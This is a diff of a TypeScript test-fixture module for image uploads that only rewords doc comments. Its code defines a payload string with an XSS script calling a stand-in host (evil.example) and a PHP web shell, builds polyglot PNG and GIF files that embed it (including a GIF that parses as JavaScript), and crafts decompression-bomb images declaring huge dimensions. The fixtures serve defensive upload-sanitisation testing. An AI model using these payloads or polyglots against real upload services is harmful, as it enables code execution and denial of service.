@@ -3,7 +3,7 @@ import sharp from 'sharp'
 import { paint } from './pictures.ts'
 import { zipOf } from './zip.ts'
 
-/** What would be found in what is kept, if anything of it was. */
+/** Text that must not be in a stored picture. */
 export const payload = '<script>fetch("https://evil.example/")</script><?php system($_GET[0]); ?>'
 
 const small = { width: 40, height: 30 }
@@ -12,7 +12,7 @@ export function jpeg(): Promise<Buffer> {
   return paint(small).jpeg().toBuffer()
 }
 
-/** A picture with something else in it or around it, each under the name it would be sent with. */
+/** Returns pictures with other content in or after them, by file name. */
 export async function polyglots(): Promise<Record<string, Buffer>> {
   const photo = await jpeg()
   const picture = await paint(small).png().toBuffer()
@@ -53,12 +53,12 @@ function pngChunk(type: string, data: Buffer): Buffer {
   return Buffer.concat([length, body, sum])
 }
 
-/** Behind the header, which is always the first. */
+/** Inserts a chunk after the header chunk, which is always the first. */
 function withChunk(png: Buffer, chunk: Buffer): Buffer {
   return Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)])
 }
 
-/** Behind the table of colours, which follows the head. */
+/** Inserts a comment after the colour table, which follows the header. */
 function withGifComment(gif: Buffer, text: string): Buffer {
   const [flags = 0] = gif.subarray(10)
   const end = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 7) + 1) : 0)
@@ -67,13 +67,13 @@ function withGifComment(gif: Buffer, text: string): Buffer {
   return Buffer.concat([gif.subarray(0, end), block, gif.subarray(end)])
 }
 
-/** Its width is written with the signs that begin a comment in JavaScript, so that all of it is a script. */
+/** Returns a GIF that is also a script: the bytes of its width begin a JavaScript comment. */
 function scriptGif(): Buffer {
   const head = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from([1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])])
   return Buffer.concat([head, gifFrame(), Buffer.from(`;*/=1;${payload}`)])
 }
 
-/** One pixel. */
+/** Returns a frame of one pixel. */
 function gifFrame(): Buffer {
   return Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0])
 }
@@ -83,7 +83,7 @@ export function movingGif(frames: number): Buffer {
   return Buffer.concat([head, ...Array<Buffer>(frames).fill(gifFrame()), Buffer.from(';')])
 }
 
-/** A screen as large as can be written, and a frame of one pixel or of all of it. */
+/** Returns a GIF of the largest possible size, with a frame of that size or of one pixel. */
 export function hugeGif(isFilled: boolean): Buffer {
   const head = Buffer.from('GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff', 'latin1')
   const frame = gifFrame()
@@ -91,7 +91,7 @@ export function hugeGif(isFilled: boolean): Buffer {
   return Buffer.concat([head, frame, Buffer.from(';')])
 }
 
-/** A PNG of one bit a pixel that says how large it is, with so many rows really there. */
+/** Returns a PNG of one bit a pixel that declares a size but contains only a number of rows. */
 export function hugePng(width: number, height: number, rows: number): Buffer {
   const head = Buffer.alloc(13)
   head.writeUInt32BE(width)
@@ -102,16 +102,16 @@ export function hugePng(width: number, height: number, rows: number): Buffer {
   return Buffer.concat([signature, pngChunk('IHDR', head), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))])
 }
 
-/** A WebP that says it is 16,383 by 16,383, the most that can be written. */
+/** Returns a WebP that declares the largest possible size, 16,383 by 16,383. */
 export async function hugeWebp(): Promise<Buffer> {
   const webp = await paint(small).webp({ lossless: true }).toBuffer()
-  // Behind the mark of the lossless form, 14 bits each of width and height, less one.
+  // The signature of lossless data is followed by width and height, each less one, in 14 bits.
   const at = webp.indexOf('VP8L') + 9
   webp.writeUInt32LE((0x0fffbffe | (webp.readUInt32LE(at) & 0xf0000000)) >>> 0, at)
   return webp
 }
 
-/** An AVIF that says it is so many pixels wide and high. */
+/** Returns an AVIF that declares a width and height. */
 export async function hugeAvif(side: number): Promise<Buffer> {
   const avif = await paint(small).avif({ effort: 0 }).toBuffer()
   const at = avif.indexOf('ispe')
